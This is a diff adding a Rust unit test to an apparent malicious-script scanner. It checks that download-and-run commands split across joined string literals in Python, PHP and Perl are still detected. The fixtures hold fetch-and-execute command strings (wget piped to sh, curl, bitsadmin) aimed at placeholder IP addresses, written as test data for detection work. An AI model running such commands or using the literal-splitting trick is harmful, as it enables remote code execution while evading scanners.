@@ -68,3 +68,37 @@ fn the_builtin_rules_leave_the_test_on_for_code_languages() {
         );
     }
 }
+
+#[test]
+fn joined_literals_are_found_through_the_prefilter() {
+    use crate::inspect::script::{analyze_file, analyze_unfiltered};
+    let cat = catalog::get();
+    // The program's name exists only once the literals are joined. (These
+    // files also pass the file gate by their call markers; `joins_literals`
+    // keeps such files in even without one.)
+    let cases: [(&str, &str); 3] = [
+        (
+            "python",
+            "import os\nos.system('wg' + 'et -q -O /tmp/x 198.51.100.7/x && sh /tmp/x')\n",
+        ),
+        (
+            "php",
+            "<?php\nshell_exec(\"cu\" . \"rl -s -o /tmp/y 203.0.113.9:8080/y\");\n",
+        ),
+        (
+            "perl",
+            "use strict;\nsystem('bitsad' . 'min /transfer j 198.51.100.7/z C:\\\\z.exe');\n",
+        ),
+    ];
+    for (lang, text) in cases {
+        let full = analyze_unfiltered(cat, lang, text.as_bytes(), false);
+        assert!(!full.hits.is_empty(), "{lang}: the joined command is found");
+        let filtered = analyze_file(cat, lang, text.as_bytes(), false);
+        assert_eq!(filtered, full, "{lang}: {text}");
+    }
+    // Without a join the gate still skips a file no rule can hit.
+    assert!(!file(
+        RuleLang::Python,
+        &[(1, "x = 'a' + b"), (2, "y = c + 'd'")]
+    ));
+}
